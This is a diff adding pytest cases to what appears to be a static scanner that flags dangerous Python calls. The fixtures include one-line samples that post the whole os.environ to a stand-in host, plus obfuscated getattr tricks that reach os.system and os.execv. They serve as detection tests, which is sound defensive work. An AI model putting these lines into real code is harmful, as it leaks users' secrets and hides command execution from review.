@@ -88,9 +88,46 @@ def test_secrets_and_a_connection_in_one_file_are_told_together() -> None:
     assert [site.sentence for site in found] == ["reads secrets in line 2 and can send them away in line 3"]
 
 
+@pytest.mark.parametrize(
+    "call",
+    [
+        "requests.post('https://x.example', data=dict(os.environ))",
+        "requests.post('https://x.example', json={**os.environ})",
+        "requests.get('https://x.example', params=os.environ)",
+        "requests.post('https://x.example', str(e.copy()))",
+        "requests.post('https://x.example', data=held)",
+    ],
+)
+def test_environment_that_is_sent_away_is_told(call: str) -> None:
+    source = f"import os, requests\nfrom os import environ as e\nheld = dict(os.environ)\ndef f(): {call}"
+    found = [site for site in find_calls(source.encode()) if site.kind == "exfiltration"]
+    assert [(site.line, site.severity) for site in found] == [(4, Severity.CRITICAL)]
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "requests.post(os.environ['HOST'], data=x)",
+        "requests.get('https://x.example', headers={'A': os.environ.get('A')})",
+        "subprocess.run(['ls'], env=dict(os.environ))",
+    ],
+)
+def test_environment_that_is_asked_for_one_name_is_not_sent(call: str) -> None:
+    source = f"import os, requests, subprocess\ndef f(x): {call}"
+    assert "exfiltration" not in {site.kind for site in find_calls(source.encode())}
+
+
 def test_names_that_stand_for_each_other_are_read_in_time() -> None:
     chain = "".join(f"a{n + 1} = a{n} + a{n} + a{n}\n" for n in range(60))
     assert find_calls(f"import os\na0 = ''\n{chain}getattr(os, a60 + 'system')('x')".encode())
+
+
+@pytest.mark.parametrize(
+    "names", [["print"], [f"c.a{number}" for number in range(40)], ["os.getenv", "len"] * 20]
+)
+def test_other_meanings_of_a_name_hide_none_that_is_grave(names: list[str]) -> None:
+    source = f"import os, c\na = {' or '.join(names)} or getattr(os, 'exe' + 'cv')\na('true', [])"
+    assert ("os.execv", 3) in {(site.call, site.line) for site in find_calls(source.encode())}
 
 
 @pytest.mark.parametrize("source", [b"x;" * 200_000, b"a = 1\n" * 100_000])
